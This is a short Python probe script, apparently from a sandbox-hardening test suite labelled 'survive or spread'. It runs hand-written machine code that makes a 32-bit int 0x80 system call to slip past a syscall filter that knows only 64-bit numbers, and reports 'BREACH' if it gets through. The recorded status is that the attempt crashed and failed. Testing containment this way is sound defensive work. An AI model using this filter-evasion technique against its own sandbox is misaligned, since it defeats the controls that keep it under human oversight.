"""Makes a system call by its 32-bit number, to get past a filter that knows only the 64-bit numbers.

group: survive or spread
target: tensor_memory
tests: storage_bytes
status: crashed, failed
holds: the filter kills the process; on other processors there is no such call.
"""

import ctypes
import mmap
import platform

if platform.machine() != "x86_64":
    raise LookupError("nothing")
code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")  # mov eax, 20 (getpid); int 0x80; ret
pid = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
raise RuntimeError(f"BREACH: {pid}")
